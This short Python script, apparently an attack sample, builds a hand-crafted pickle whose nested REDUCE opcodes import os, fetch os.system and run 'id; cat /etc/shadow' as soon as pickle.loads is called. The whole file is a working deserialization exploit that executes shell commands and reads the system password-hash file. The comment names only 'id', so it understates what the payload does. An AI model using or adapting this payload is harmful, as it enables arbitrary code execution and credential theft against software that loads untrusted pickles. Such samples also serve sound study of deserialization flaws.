# attack: nested REDUCEs in a hand-made pickle: importlib.import_module('os') -> getattr(os, 'system') -> system('id')
import pickle

p = (
    b"cbuiltins\ngetattr\n"
    b"(cimportlib\nimport_module\n(S'os'\ntR"
    b"S'system'\ntR"
    b"(S'id; cat /etc/shadow'\ntR."
)
pickle.loads(p)
